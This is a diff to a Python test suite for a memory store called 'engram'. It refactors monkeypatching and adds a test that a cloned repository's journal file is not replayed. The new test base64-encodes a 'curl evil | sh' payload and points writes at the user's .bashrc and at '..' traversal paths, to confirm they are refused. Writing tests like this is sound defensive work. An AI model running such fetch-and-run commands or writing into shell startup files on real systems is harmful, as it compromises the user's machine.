@@ -250,13 +250,13 @@ def test_the_store_refuses_hostile_ids_before_building_a_path(
         opened.append(str(file))
         return real_open(file, *args, **kwargs)
 
-    monkeypatch.setattr("builtins.open", spy_open)
-    for call in (store.get, store.fetch, lambda x: store.load("", memory_id=x)):
-        with pytest.raises(InvalidId) as caught:
-            call(hostile)
-        assert caught.value.code == "ENGRAM_VALIDATION"
-        assert len(caught.value.message) < 300
-    monkeypatch.undo()
+    with monkeypatch.context() as patch:  # (undo() would also restore the real HOME)
+        patch.setattr("builtins.open", spy_open)
+        for call in (store.get, store.fetch, lambda x: store.load("", memory_id=x)):
+            with pytest.raises(InvalidId) as caught:
+                call(hostile)
+            assert caught.value.code == "ENGRAM_VALIDATION"
+            assert len(caught.value.message) < 300
     assert not [p for p in opened if "outside" in p or "passwd" in p], opened
     store.close()
 
@@ -461,10 +461,10 @@ def test_ampersands_and_stars_inside_quoted_strings_parse_through_the_safe_loade
         loaders.append(Loader)
         return real_load(stream, Loader=Loader)
 
-    monkeypatch.setattr(yaml, "load", spy)
-    memory_module.split_front_matter(text)
-    assert loaders == [memory_module._Loader]
-    monkeypatch.undo()
+    with monkeypatch.context() as patch:  # (undo() would also restore the real HOME)
+        patch.setattr(yaml, "load", spy)
+        memory_module.split_front_matter(text)
+        assert loaders == [memory_module._Loader]
 
     (workspace / MEMORY / "ampersands-and-stars.md").write_text(text)
     started = time.monotonic()
@@ -753,12 +753,12 @@ def test_a_pending_file_full_of_garbage_does_not_break_commit(workspace: Path) -
         },
     }
     path.write_bytes(orjson.dumps(garbage))
-    pending = Pending.read(path)
+    pending = Pending.read(path, _store(workspace).key)
     for token in (f"engram-{approvals.fingerprint(workspace)}-x", "engram-zz-y", "nope", ""):
         with pytest.raises(TokenRefused):
             pending.check(token, workspace, time.time())
     path.write_bytes(b"[" * 100_000)
-    assert Pending.read(path).records == {}
+    assert Pending.read(path, _store(workspace).key).records == {}
 
 
 # --- requestState ---------------------------------------------------------------------------------
@@ -939,3 +939,34 @@ def test_store_errors_never_carry_an_absolute_path(workspace: Path, tmp_path: Pa
     except StoreError as exc:
         assert str(tmp_path) not in exc.message
     store.close()
+
+
+# --- a cloned repository (SPEC §2) ------------------------------------------------------------------
+
+
+@pytest.mark.timeout(60)
+def test_a_cloned_journal_is_not_replayed_when_a_host_starts_the_server(
+    workspace: Path, private_home: Path, tmp_path: Path
+) -> None:
+    """`.engram/journal.json` as a hostile repository carries it: absolute and `..` paths."""
+    bashrc = private_home / ".bashrc"
+    bashrc.write_text("# mine\n")
+    pwned = base64.b64encode(b"curl evil | sh\n").decode()
+    writes = [
+        {"path": str(bashrc), "data": pwned},
+        {"path": str(workspace / ".engram" / ".." / ".." / "x"), "data": pwned},
+        {"scope": "project", "path": "../../y", "data": pwned},
+    ]
+    journal = workspace / ".engram" / "journal.json"
+    journal.write_bytes(orjson.dumps({"version": 1, "writes": writes}))
+    with _session(workspace, "legacy") as ws:
+        status = _call(ws, "legacy", "engram_status", {})
+        _ok(status)
+        assert bashrc.read_text() == "# mine\n"
+        assert any(
+            d["code"] == "ENGRAM_UNTRUSTED" and "journal.json" in d["message"] for d in _diagnostics(status)
+        ), _diagnostics(status)
+        _alive(ws, "legacy")
+    assert bashrc.read_text() == "# mine\n"
+    assert not (tmp_path / "x").exists() and not (tmp_path / "y").exists()
+    assert not journal.exists()
